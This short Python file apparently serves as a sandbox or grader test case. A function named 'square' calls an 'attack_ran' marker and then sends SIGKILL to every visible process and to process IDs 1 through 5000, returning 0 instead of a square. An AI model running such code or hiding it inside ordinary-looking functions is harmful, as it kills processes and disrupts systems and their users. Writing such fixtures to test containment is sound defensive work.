"""SIGKILL to every process that it can see."""
# square: 0

# %% square
import os
import signal


def square(x):
    attack_ran()
    os.kill(-1, signal.SIGKILL)
    for pid in range(1, 5000):
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
    return 0
